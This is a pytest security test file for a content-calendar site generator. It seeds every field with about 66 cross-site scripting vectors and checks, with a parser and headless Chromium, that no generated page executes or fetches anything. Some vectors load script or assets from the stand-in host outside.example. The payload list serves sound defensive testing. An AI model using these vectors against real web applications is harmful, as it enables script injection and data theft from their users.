"""Hostile texts in every field of every kind, in each status: a real browser runs none, and asks nobody else.

Each text field and each body holds another vector, which names itself by a number when it runs. Dialogs, refusals by
the content policy, errors in scripts, messages of the console and requests to elsewhere are listened to; a planted
page that does all of it shows that the listeners hear.
"""

import re
from collections.abc import Callable, Iterator
from datetime import date, datetime, time
from html.parser import HTMLParser
from itertools import count
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit
from zoneinfo import ZoneInfo

import pytest

from majlis.dates.durations import Duration
from majlis.edition import edition_for
from majlis.fields import FieldType, fields_of
from majlis.fields.compound import Keyed, Many, Record
from majlis.fields.declare import attribute
from majlis.fields.types import Choice, Ref
from majlis.kinds import KINDS, Entry, Kind
from majlis.kinds.channels import Channel
from majlis.kinds.hours import Hours
from majlis.kinds.keydates import KeyDate
from majlis.kinds.mediafile import MediaFile
from majlis.kinds.reply import Clause
from majlis.kinds.team import Member, Pillar, Team
from majlis.make import artifacts
from majlis.outputs.print import press
from majlis.workspace import Workspace

RIYADH = ZoneInfo("Asia/Riyadh")
NOW = datetime(2027, 2, 3, 9, tzinfo=RIYADH)
OUTSIDE = "outside.example"
VECTORS = (  # N is the number of the place
    "<script>alert(N)</script>", "<ScRiPt src=//outside.example/N.js></sCrIpT>", "\"><img src=x onerror=alert(N)>",
    "'><svg/onload=alert(N)>", "</title><script>alert(N)</script>", "</textarea><script>alert(N)</script>",
    "</script><script>alert(N)</script>", "--><script>alert(N)</script><!--", "]]><script>alert(N)</script>",
    "javascript:alert(N)", "JaVa\tScRiPt:alert(N)", "java&#115;cript:alert(N)",
    "data:text/html,<script>alert(N)</script>", "vbscript:msgbox(N)", "\" onmouseover=alert(N) x=\"",
    "' autofocus onfocus=alert(N) x='", "` onerror=alert(N) `", "<iframe src=javascript:alert(N)>",
    "<iframe srcdoc='<script>alert(N)</script>'>", "<object data=javascript:alert(N)>",
    "<embed src=//outside.example/N.swf>", "<base href=//outside.example/N/>",
    "<link rel=stylesheet href=//outside.example/N>", "<meta http-equiv=refresh content=0;url=javascript:alert(N)>",
    "<form action=javascript:alert(N)><button autofocus>", "<style>@import '//outside.example/N';</style>",
    "<div style=background:url(//outside.example/N)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(N)>", "<details open ontoggle=alert(N)>",
    "<video><source onerror=alert(N)></video>", "<body onload=alert(N)>", "<input onfocus=alert(N) autofocus>",
    "<marquee onstart=alert(N)>", "<a href=\"javascript:alert(N)\">x</a>", "<img src=//outside.example/N.png>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(N)>\">",
    "<svg><animate onbegin=alert(N) attributeName=x>", "<template><script>alert(N)</script></template>",
    "&lt;script&gt;alert(N)&lt;/script&gt;", "\\u003cscript>alert(N)</script>", "%3Cscript%3Ealert(N)%3C/script%3E",
    "{{constructor.constructor('alert(N)')()}}", "${alert(N)}", "{% include 'N' %}", "[a](javascript:alert(N))",
    "![a](javascript:alert(N))", "![a](//outside.example/N.png)", "[a](data:text/html,N){: onclick=alert(N)}",
    "[a][b]\n\n[b]: javascript:alert(N)", "<javascript:alert(N)>", "![x](x \"onerror=alert(N)\"){: onerror=alert(N)}",
    "# a {: onclick=alert(N) #main style=x}", "```js onload=alert(N)\n</code><script>alert(N)</script>\n```",
    "قال <script>alert(N)</script> وسكت", "«\"><img src=x onerror=alert(N)>» في رمضان",
    "رابط [هنا](javascript:alert(N))", "<a href='java\u200bscript:alert(N)'>اضغط</a>", "مجلس' onmouseover='alert(N)",
    "</bdi></p><script>alert(N)</script>عربي", "\u202e<script>alert(N)</script>\u202c",
    "\u2067<svg onload=alert(N)>\u2069", "<ѕcript>alert(N)</ѕcript>", "＜script＞alert(N)＜/script＞",
    "\u2028<script>alert(N)</script>", "<scr\x00ipt>alert(N)</script>",
)
ONE_LINE = tuple(re.sub(r"\s*[\n\t\x00]\s*", " ", vector) for vector in VECTORS)
AS_ADDRESS = "https://a.example/\"'><svg/onload=alert(N)>"
PICTURE = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c63606060f80f0001040100"
    "5fe5c34b0000000049454e44ae426082")


class Writer:
    """Records with another vector in each text."""

    def __init__(self) -> None:
        self.numbers = count(1)

    def text(self, vectors: tuple[str, ...] = ONE_LINE) -> str:
        number = next(self.numbers)
        return vectors[number % len(vectors)].replace("N", str(number))

    def value(self, type: FieldType[Any]) -> Any:
        match type:
            case Many(item):
                return tuple(self.value(item) for _ in range(2)) if type.__class__ is Many else (self.value(item),)
            case Record(record):
                return self.record(record)
            case Keyed(key, item):
                return {self.value(key): self.value(item)}
            case Ref(kind):
                return {"member": "huda", "channel": "instagram", "pillar": "craft"}.get(kind, f"{kind}-0")
            case Clause():
                return "policy-0#c1"
            case Choice(labels):
                return next(iter(labels))
        return self.scalar(type.__class__.__name__)

    def scalar(self, name: str) -> Any:
        plain: dict[str, Any] = {
            "Date": date(2027, 2, 5), "LocalTime": datetime(2027, 2, 5, 8, tzinfo=RIYADH), "Clock": time(8),
            "Length": Duration(2, "d"), "Boolean": True, "Country": "SA", "Currency": "SAR", "Region": "SA",
            "ZoneName": "Asia/Riyadh", "HijriDay": "09-01", "YearDay": "02-03", "YearRule": None, "Shift": None,
            "PartOfDay": Hours(from_=time(9), to=time(17)), "Number": 7.0, "Whole": 7, "FilePath": "media/a.png",
            "Host": "a.example", "Visibility": "team",
        }
        if name in plain:
            return plain[name]
        if name in ("Id", "Tag"):
            return f"c{next(self.numbers)}"
        if name == "Url":
            return self.text((AS_ADDRESS,))
        return self.text(VECTORS if name == "Text" else ONE_LINE)

    def record(self, record: type[Any], **given: Any) -> Any:
        values = {attribute(key): self.value(spec.type) for key, spec in fields_of(record).items()
                  if attribute(key) not in given}
        places = {"place": None} if "place" in record.__dataclass_fields__ else {}
        return record(**(values | places | given))

    def entry(self, kind: Kind, state: str, id: str) -> Entry:
        body = "\n\n".join(self.text(VECTORS) for _ in range(12))
        usual: dict[str, Any] = {
            "kind": kind.name, "path": f"{kind.folder}/{id}.md", "body_line": 9, "digest": "0", "id": id, "body": body,
            "front": "[{},{},2,1]", "lang": ("ar", "en")[next(self.numbers) % 2], "visibility": "team",
            kind.record.state_field: state, "timezone": None, "anchor": None, "repeat": None, "embargo_until": None,
            "public_from": None, "translation_of": None,
        }
        if kind.name == "hold":
            usual |= {"from_": NOW.replace(year=2020), "until": NOW.replace(year=2020, month=3)}
        slots = {slot for base in kind.record.__mro__ for slot in getattr(base, "__slots__", ())}
        made: Entry = self.record(kind.record, **{key: value for key, value in usual.items() if key in slots})
        return made

    def workspace(self) -> Workspace:
        entries = [self.entry(kind, state, f"{kind.name}-{at}")
                   for kind in KINDS for at, state in enumerate(kind.states)]
        huda = self.record(Member, id="huda")
        team = self.record(
            Team, members=(huda,), pillars=(self.record(Pillar, id="craft"),), languages=("ar", "en"),
            timezone="Asia/Riyadh", holidays=(), as_of=None, weekend=("friday",), week_start="sunday", hijri_offset=0,
            public_url="https://open.example", uid_domain="o.example", repository=None, assume_published=None,
            checks=None, approvals=None, patience=None, paper="a4", numerals="western")
        channel = self.record(Channel, id="instagram", owner="huda")
        day = self.record(KeyDate, id="d", hijri=None, rule=None, offset=None, overrides=(), kind="brand", days=1)
        return Workspace(team=team, channels=(channel,), entries=tuple(sorted(entries, key=lambda one: one.path)),
                         media={"media/a.png": MediaFile(1)}, key_dates=(day,))


@pytest.fixture(scope="module")
def writer() -> Writer:
    return Writer()


@pytest.fixture(scope="module")
def site(writer: Writer, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """All that is made of the hostile workspace for the team; PDFs are empty."""
    root, site = tmp_path_factory.mktemp("hostile"), tmp_path_factory.mktemp("site")
    (root / "content/media").mkdir(parents=True)
    (root / "content/media/a.png").write_bytes(PICTURE)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(press.Press, "set", lambda self, sheet: press.Printed(b"%PDF-", 1))
        patch.setattr(press.Press, "put", lambda self, name, data: None)
        edition = edition_for("team", writer.workspace(), NOW, root=root, fixed_clock=True)
        for artifact in artifacts(edition, {}, lambda problem: None):
            (site / artifact.path).parent.mkdir(parents=True, exist_ok=True)
            (site / artifact.path).write_bytes(artifact.data)
    return site


class Looker(HTMLParser):
    """What of a page could run or fetch."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        self.found += [f"{tag} {name}" for name in values if name.startswith("on") or name in ("style", "srcdoc")]
        if tag in ("iframe", "object", "embed", "base", "style", "math"):
            self.found.append(tag)
        if tag == "script" and (not values.get("src") or urlsplit(values["src"]).netloc):
            self.found.append(str(values))
        for name in ("href", "src", "action", "formaction", "cite", "xlink:href"):
            scheme = re.sub(r"[\W_]", "", values.get(name, "").partition(":")[0]) if ":" in values.get(name, "") else ""
            if scheme.lower() in ("javascript", "data", "vbscript"):
                self.found.append(f"{tag} {name}={values[name]}")
            if tag in ("img", "link", "source", "video") and urlsplit(values.get(name, "")).netloc and (
                    values.get("rel") not in ("canonical", "alternate")):
                self.found.append(f"{tag} {name}={values[name]}")


def test_no_page_holds_what_runs_or_fetches(site: Path, writer: Writer) -> None:
    pages = sorted(site.rglob("*.html"))
    found = {page.relative_to(site).as_posix(): Looker(page.read_text("utf-8")).found for page in pages}
    assert {path: parts for path, parts in found.items() if parts} == {}
    placed = next(writer.numbers) - 1
    assert len(VECTORS) >= 60
    assert placed > 10 * len(VECTORS)
    print(f"{placed:,} places, {len(VECTORS)} vectors, {len(pages)} pages")


def test_templates_are_printed_as_they_are(site: Path) -> None:
    shown = "\n".join(page.read_text("utf-8") for page in sorted(site.rglob("*.html")))
    assert re.search(r"\{% include (&#39;|')\d+(&#39;|') %\}", shown)
    assert re.search(r"\{\{constructor\.constructor\((&#39;|')alert\(\d+\)", shown)


PLANTED = f"""<!doctype html><html><head><meta charset="utf-8"><link rel="icon" href="assets/icon.svg">
<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline' 'self'; style-src 'self'"></head><body>
<script>alert("dialog")</script><script>throw new Error("error")</script><p style="color:red">refused</p>
<img src="http://{OUTSIDE}/x.png" alt=""><script>console.error("message")</script></body></html>"""


REFERENCE = re.compile("../help/(fields|problems)-(?!post|p[.])")
"""Pages of the help that are made of our own texts alone; of each sort another one is visited."""
NOWHERE = {"server": "http://127.0.0.1:9", "bypass": "127.0.0.1"}
"""By this way a browser reaches what is on this machine, and nothing else."""


class Heard:
    """A page of a browser, and what was heard of it. Nothing gets out: a request to elsewhere is noted and fails."""

    def __init__(self, chromium: Any, root: str) -> None:
        self.said: list[str] = []
        self.root = root
        self.context = chromium.new_context(base_url=root, proxy=NOWHERE)
        self.context.set_default_timeout(120_000)
        self.context.expose_binding("majlisRefused", lambda source, what: self.said.append(f"policy {what}"))
        self.context.expose_binding("majlisHeard", lambda source: None)
        self.context.add_init_script(
            "document.addEventListener('securitypolicyviolation',"
            " (event) => majlisRefused(event.violatedDirective + ' ' + event.blockedURI))")
        self.page = self.context.new_page()
        self.page.on("request", self._request)
        self.page.on("dialog", self._dialog)
        self.page.on("pageerror", lambda error: self.said.append(f"error {error}"))
        self.page.on("console", self._console)

    def _request(self, request: Any) -> None:
        if not request.url.startswith(self.root):
            self.said.append(f"request {request.url}")

    def _console(self, line: Any) -> None:
        if line.type == "error":
            self.said.append(f"console {line.text} {line.location['url']}")

    def _dialog(self, dialog: Any) -> None:
        self.said.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def visit(self, address: str) -> list[str]:
        """What is heard of one page, by the address of it.

        What the page said last has arrived when an answer comes back by the same way.
        """
        before = len(self.said)
        self.page.goto(address, wait_until="load")
        self.page.evaluate("new Promise((done) => setTimeout(done)).then(() => majlisHeard())")
        return [f"{address}: {one}" for one in self.said[before:]]


@pytest.fixture(scope="module")
def heard(chromium: Any, site: Path, serve: Callable[[Path], str]) -> Iterator[Heard]:
    (site / "planted.html").write_text(PLANTED, "utf-8")
    made = Heard(chromium, serve(site))
    yield made
    made.context.close()


@pytest.mark.browser
def test_the_listeners_hear_what_runs(heard: Heard) -> None:
    said = " | ".join(heard.visit("planted.html"))
    hits = ("dialog dialog", "error error", "policy style-src", f"request http://{OUTSIDE}/x.png", "console message")
    for one in hits:
        assert one in said


@pytest.mark.browser
def test_a_browser_runs_nothing_of_any_page(heard: Heard, site: Path) -> None:
    pages = [page.relative_to(site).as_posix() for page in sorted(site.rglob("*.html")) if page.name != "planted.html"]
    pages = [page for page in pages if not REFERENCE.match(page)]
    assert len(pages) > 200
    assert [one for page in pages for one in heard.visit(quote(page))] == []
    print(f"{len(pages)} pages visited")


ASKED = ("<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'-alert(1)-'", "javascript:alert(1)",
         "رمضان<svg onload=alert(1)>", "{{7*7}}", "%00<b>")


@pytest.mark.browser
@pytest.mark.parametrize("lang", ["ar", "en"])
def test_what_an_address_asks_for_is_text(heard: Heard, lang: str) -> None:
    said = []
    for asked in ASKED:
        word = quote(asked)
        for page in ("search.html", "calendar/", "calendar/2027-02.html", "problems.html", ""):
            names = ("q", "status", "channel", "pillar", "campaign", "owner", "lang", "kind", "code", "severity", "me")
            said += heard.visit(f"{lang}/{page}?{'&'.join(f'{name}={word}' for name in names)}#{word}")
            assert heard.page.locator("script:not([src]), img[src=x], svg[onload], [onerror], b > b").count() == 0
    assert said == []


@pytest.mark.browser
@pytest.mark.parametrize("lang", ["ar", "en"])
def test_what_is_typed_into_the_search_is_text(heard: Heard, lang: str) -> None:
    heard.visit(f"{lang}/search.html")
    before = len(heard.said)
    box = heard.page.locator("main input[type=search]").first
    for asked in (*ASKED, "script", "alert", "onerror", "رمضان"):
        box.fill("")
        heard.page.locator("#found li").first.wait_for(state="detached")
        box.fill(asked)
        heard.page.locator("#found li").first.wait_for()
        assert heard.page.locator("script:not([src]), img[src=x], [onerror], [onload]").count() == 0
    assert heard.said[before:] == []
